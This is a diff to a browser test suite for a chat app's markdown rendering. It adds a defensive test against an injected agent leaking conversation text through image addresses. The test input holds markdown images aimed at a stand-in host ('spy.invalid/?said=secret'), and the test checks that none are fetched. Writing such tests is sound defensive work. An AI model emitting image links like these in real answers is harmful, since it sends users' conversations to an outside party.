@@ -119,7 +119,7 @@ async def test_no_answer_runs_anything(stage: Stage, reader: Reader) -> None:
     await reader.until(count)
     assert await reader.page.evaluate(_STRAY) == []
     for link in await reader.page.locator("#log a[href]").all():
-        assert (await link.get_attribute("href") or "").startswith("https://example.com")
+        assert (await link.get_attribute("href") or "").startswith("https://example.")
     for button in await reader.page.locator("#log a:not([href]), #log b, #log i").all():
         await button.dispatch_event("click")
         await button.dispatch_event("mouseover")
@@ -178,13 +178,31 @@ async def test_safe_markdown_is_all_there(stage: Stage, reader: Reader) -> None:
         "em": 1,
         "hr": 1,
         'a[href^="https://example.com"]': 2,
+        'a[href="https://example.invalid/p.png"]': 1,
         'a[href="mailto:mail@example.com"]': 1,
-        'a[target="_blank"][rel="noopener noreferrer nofollow"]': 3,
-        'img[loading="lazy"]': 1,
+        'a[target="_blank"][rel="noopener noreferrer nofollow"]': 4,
+        "img": 0,  # pictures follow as files
         "figure pre code": 1,
         "p br": 1,
     }.items():
         assert await reader.count(f".answer .md {selector}") == times, selector
+
+
+async def test_no_address_in_an_answer_is_told_that_it_was_read(
+    stage: Stage, reader: Reader
+) -> None:
+    """An agent could be talked into a picture whose address tells what was said."""
+    asked: list[str] = []
+    reader.page.on("request", lambda request: asked.append(request.url))
+    await reader.write(
+        "![a <b>name</b>](https://spy.invalid/?said=secret) ![](http://spy.invalid/2)\n\n"
+        "[![badge](https://spy.invalid/3)](https://example.com/project) ![x](data:image/png,x)"
+    )
+    await reader.sees(".answer .md a", "a <b>name</b>")
+    await reader.sees(".answer .md a[href='http://spy.invalid/2']", "http://spy.invalid/2")
+    await reader.sees(".answer .md a[href='https://example.com/project']", "badge")
+    assert await reader.count(".answer .md a") == 3
+    assert not any("spy.invalid" in url for url in asked)
 
 
 async def test_the_policy_alone_stops_a_script_that_got_through(
